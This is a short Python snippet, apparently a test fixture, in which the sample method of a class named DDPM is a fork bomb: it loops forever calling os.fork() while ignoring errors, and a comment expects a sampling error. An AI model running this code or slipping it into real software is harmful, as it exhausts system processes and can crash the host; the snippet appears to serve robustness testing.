# sample forks without end; when no more processes are allowed, the parent raises.
# expect: sampling=error
class DDPM(nn.Module):
    def sample(self, n_sample, size, device):
        while True:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
